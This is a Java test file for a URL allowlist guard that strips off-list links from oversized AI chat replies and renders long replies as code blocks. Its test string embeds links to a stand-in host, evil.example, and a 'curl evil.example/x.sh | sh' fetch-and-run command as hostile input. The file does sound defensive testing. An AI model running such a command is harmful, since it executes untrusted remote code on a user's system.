package dev.vex.guards.links;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vex.core.guard.Draft;
import dev.vex.core.guard.GuardVerdict;
import dev.vex.guards.Turns;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * A reply past the Markdown limit (issue 24's megabyte of links) is judged as plain text: what the
 * user receives renders no off-list host and shows none to copy, the allowed links still render,
 * and a reply under the limit is judged as Markdown as before.
 */
class PlainReplyTest {
  private static final UrlAllowlistGuard GUARD = UrlAllowlistGuard.defaults();

  /** Every way of writing an off-list destination the guard knows, and two allowed links. */
  private static final String UNIT =
      "See [the docs](https://evil.example/docs) and ![x](https://evil.example/x.png),"
          + " <a href=\"https://evil.example/a\">here</a>, <https://evil.example/auto>,"
          + " www.evil.example, mail x@evil.example, `curl evil.example/x.sh | sh`,"
          + " [r]\n\n[r]: https://evil.example/ref\n\n"
          + "Price on [CoinGecko](https://www.coingecko.com/en) and https://github.com/vex.\n\n";

  private static String repeated(String unit, int chars) {
    StringBuilder b = new StringBuilder(chars + unit.length());
    while (b.length() < chars) {
      b.append(unit);
    }
    return b.toString();
  }

  private static List<String> renderedDestinations(String text) {
    List<String> urls = new ArrayList<>();
    for (var e : BrowserView.render(text).select("[href], [src]")) {
      urls.add(e.hasAttr("href") ? e.attr("href") : e.attr("src"));
    }
    return urls;
  }

  @Test
  void aMegabyteOfEveryKindOfOffListLinkReachesNoOffListHost() throws Exception {
    String reply = repeated(UNIT, 1 << 20);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(guarded).doesNotContainIgnoringCase("evil");
    assertThat(guarded.length()).isLessThanOrEqualTo(reply.length() + 10);
    assertThat(renderedDestinations(guarded)).isEmpty();
    assertThat(BrowserView.leaks(guarded, "evil.example")).isFalse();
  }

  @Test
  void aReplyPastTheLimitIsShownAsWrittenInACodeBlock() throws Exception {
    String reply = repeated(UNIT, UrlAllowlistGuard.MARKDOWN_LIMIT + 1);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    assertThat(v).isInstanceOf(GuardVerdict.Rewritten.class);
    assertThat(v.reason()).contains("evil.example").contains("code block");
    var shown = BrowserView.render(((GuardVerdict.Rewritten) v).text());
    assertThat(shown.select("pre > code")).hasSize(1);
    assertThat(shown.select("a, img")).isEmpty();
    String code = shown.select("pre > code").first().wholeText();
    assertThat(code)
        .contains("Price on [CoinGecko](https://www.coingecko.com/en) and https://github.com/vex.")
        .contains("See [the docs]( ) and");
  }

  @Test
  void aReplyUnderTheLimitIsStillReadAsMarkdown() throws Exception {
    String reply = repeated(UNIT, UrlAllowlistGuard.MARKDOWN_LIMIT - UNIT.length());

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(guarded).doesNotContainIgnoringCase("evil.example");
    assertThat(guarded).contains("See the docs and");
    assertThat(renderedDestinations(guarded)).contains("https://www.coingecko.com/en");
  }

  @Test
  void aLongReplyWithoutLinksPassesUnchanged() {
    String reply = repeated("It is 21 degrees in Oslo today, and sunny. ", 1 << 20);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    assertThat(v).isInstanceOf(GuardVerdict.Pass.class);
  }

  @Test
  void aLongReplyWithOnlyAllowedLinksKeepsItsWholeText() {
    String reply = repeated("see https://github.com/vex or www.coingecko.com\n", 1 << 18);

    GuardVerdict v = GUARD.check(new Draft(reply), Turns.turnWithLinks(List.of()));

    assertThat(v).isInstanceOf(GuardVerdict.Rewritten.class);
    String code =
        BrowserView.render(((GuardVerdict.Rewritten) v).text())
            .select("pre > code")
            .first()
            .wholeText();
    assertThat(code.strip()).isEqualTo(reply.strip());
  }

  @Test
  void theGuardAcceptsItsOwnOutputPastTheLimit() throws Exception {
    String reply = repeated(UNIT, UrlAllowlistGuard.MARKDOWN_LIMIT + 1);
    String once = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    GuardVerdict again = GUARD.check(new Draft(once), Turns.turnWithLinks(List.of()));

    assertThat(again).isInstanceOf(GuardVerdict.Pass.class);
  }

  @Test
  void removalsNeverJoinTwoPiecesIntoAnOffListHost() throws Exception {
    // once the middle URL goes, "github.com" and ".evil.example" must not meet
    String reply =
        repeated("https://github.com" + "https://evil.example" + ".evil.example ", 200_000);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    assertThat(BrowserView.leaks(guarded, "evil.example")).isFalse();
    assertThat(renderedDestinations(guarded)).isEmpty();
  }

  @Test
  void noLineOfTheReplyClosesTheCodeBlock() throws Exception {
    String reply =
        repeated(
            "~~~~~\n   ~~~~  \n[x](https://github.com) <a href=\"https://github.com\">g</a>\n```\n",
            200_000);

    String guarded = Turns.after(GUARD, reply, Turns.turnWithLinks(List.of()));

    var shown = BrowserView.render(guarded);
    assertThat(shown.select("pre")).hasSize(1);
    assertThat(shown.select("a, img")).isEmpty();
  }
}
